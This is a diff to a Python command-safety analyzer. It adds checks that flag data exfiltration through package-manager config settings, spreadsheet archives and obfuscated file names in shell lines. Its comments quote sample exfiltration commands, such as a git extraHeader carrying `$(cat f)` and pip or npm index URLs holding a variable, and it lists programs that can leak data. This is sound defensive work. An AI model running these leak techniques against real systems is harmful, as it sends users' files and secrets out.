@@ -6,8 +6,10 @@ Called by ``safety.commands``; findings use the policy's categories.
 
 from __future__ import annotations
 
+import itertools
 import posixpath
 import re
+from collections.abc import Iterator
 from typing import TYPE_CHECKING
 
 from macrohard.safety import curlargs, lazyre, runners, spliced
@@ -138,6 +140,12 @@ def network(an: Analyzer, prog: str, args: list[str], operands: list[str], cmd: 
         r.add("exfiltration", f"{prog} leaks {ref}, through a DNS name or its packets")
     if prog in _CONTACTS:  # rt54: `git clone "http://h/$T"`, `pip download -i "http://h/$T"`, `xdg-open`…
         _addresses(an, prog, args, [], cmd)
+    if (prog in _CONTACTS or prog in _CONFIGURED) and "config" in operands[:2] and not an.defining and (
+            ref := next((r for a in args if (r := setting_data(an, a))), "")):
+        # rt56: `pip config set global.index-url "http://h/$T"` (pip.conf), `npm config set`, `yarn config set`…:
+        # the program's own settings file, read by every later run of it, holds the text it sends
+        an.r.add("exfiltration", f"{prog} config keeps {ref} in its settings, which it sends (an index, a registry, "
+                                 "a proxy, a header)")
     if prog == "git":  # rt54: `git -c http.extraHeader="X: $(cat f)" ls-remote URL` sent the file's text
         headers = [args[i + 1] for i, a in enumerate(args[:-1]) if a == "-c" and
                    re.match(r"(?i)http\.(?:.*\.)?extraheader=", args[i + 1])]
@@ -315,7 +323,8 @@ def _tar_data(data: bytes) -> bool:
 
 def _spreadsheet(path: str) -> bool:
     """rt56: a zip that is a spreadsheet (xlsx's ``xl/``, an OpenDocument spreadsheet's ``mimetype``) or holds a data
-    file (``DATA_KIND``: ``export.zip`` of ``customers.csv``), whatever the file is called (``book``, ``book.txt``)."""
+    file (``DATA_KIND`` but .xml: ``export.zip`` of ``customers.csv``), whatever the file is called (``book``,
+    ``book.txt``)."""
     import zipfile
 
     from macrohard.safety.regular import open_regular
@@ -323,11 +332,42 @@ def _spreadsheet(path: str) -> bool:
     try:
         with open_regular(path, "rb") as fh, zipfile.ZipFile(fh) as z:
             names = z.namelist()[:10000]
-            if any(n.startswith("xl/") or DATA_KIND.fullmatch(n.rsplit("/", 1)[-1]) for n in names):
+            if any(n.startswith("xl/") or DATA_KIND.fullmatch(n.rsplit("/", 1)[-1]) and not n.lower().endswith(
+                    ".xml") for n in names):  # (a document's own parts are .xml: docx, odt, epub are not data)
                 return True
             return "mimetype" in names and b"spreadsheet" in z.read("mimetype")[:200]
     except (OSError, zipfile.BadZipFile, KeyError, ValueError, RuntimeError, EOFError):
         return False
+
+
+_BRACES = lazyre.compile(r"\{([^{}\s$]*,[^{}\s$]*)\}")
+
+
+def _parsed_words(an: Analyzer, text: str) -> list[str]:
+    """rt56: the words of a line as bash reads them (quotes and backslashes gone: ``"cli""ents"``, ``cli''ents``,
+    ``cl\\ients``, ``$'cli\\x65nts'``; a brace list expanded: ``cli{e,x}nts``), each command's but its program's
+    name, and its redirects' targets. ``named_records`` read the line's text only, where such a name is pieces. Once
+    per line and text."""
+    from macrohard.safety.shellparse import parse
+
+    memo = an.__dict__.setdefault("parsed_words_memo", {})
+    if text not in memo:
+        if len(memo) > 64:
+            memo.clear()
+        try:
+            commands = parse(text).commands
+        except Exception:  # noqa: BLE001 - a line the parser cannot read: the other checks judge it
+            commands = []
+        words: list[str] = []
+        for cmd in commands:
+            for word in [*cmd.argv[1:], *(t for _, t in cmd.redirects)]:
+                if len(words) > 4096:
+                    break
+                if (m := _BRACES.search(word)) and m.group(1).count(",") < 32:
+                    words += [word[:m.start()] + alt + word[m.end():] for alt in m.group(1).split(",")]
+                words.append(word)
+        memo[text] = words
+    return memo[text]
 
 
 def named_records(an: Analyzer, text: str) -> str:
@@ -342,14 +382,19 @@ def named_records(an: Analyzer, text: str) -> str:
     bases = [an.paths.resolve(".", cwd)] + [an.paths.resolve(d, cwd) for d in _CD.findall(text) if "$" not in d]
     seen: set[str] = set()
     globs = 0
-    for m in _PATH_WORD.finditer(text):
-        word = m.group(0)
+
+    def raw_words() -> Iterator[str]:
+        for m in _PATH_WORD.finditer(text):
+            before = text[:m.start()]  # (a program's name: `export`, `sed`, is no file it reads)
+            if not (_COMMAND_PLACE if len(before) <= 200 else _COMMAND_PLACE_LATE).search(before[-200:]):
+                yield m.group(0)
+
+    for word in itertools.chain(raw_words(), _parsed_words(an, text)):
         if "://" in word or word.startswith("-") or word in seen:
             continue
-        before = text[:m.start()]  # (a program's name: `export`, `sed`, is no file it reads)
-        if (_COMMAND_PLACE if len(before) <= 200 else _COMMAND_PLACE_LATE).search(before[-200:]):
-            continue
         seen.add(word)
+        if names_data(word):
+            return f"{word[:60]}"
         pattern = _ANY_EXPANSION.sub(lambda e: an.line_vars.get(e.group(0).strip("${}"), "*"), word) \
             if "$" in word else word
         if not pattern.strip("*/.~") or pattern.startswith("~") or pattern.startswith("/") and not any(
@@ -560,6 +605,8 @@ def _addresses(an: Analyzer, prog: str, args: list[str], operands: list[str], cm
 
 
 _HTTPIE = frozenset({"http", "https", "xh", "xhs"})
+_CONFIGURED = frozenset({"conda", "mamba", "poetry", "pdm", "hatch", "bundle", "bundler", "gem", "pipenv", "twine",
+                         "deno", "bun", "dotnet", "nuget", "mvn", "gradle", "sbt", "conan", "vcpkg", "rustup"})
 # rt54: programs that look up a name they are given (the name itself leaks: DNS), and programs besides curl and wget
 # that ask for the address they are given (a value in its path goes out in the request)
 _RESOLVERS = frozenset({"dig", "nslookup", "host", "ping", "ping6", "drill", "getent", "traceroute", "tracepath", "mtr",
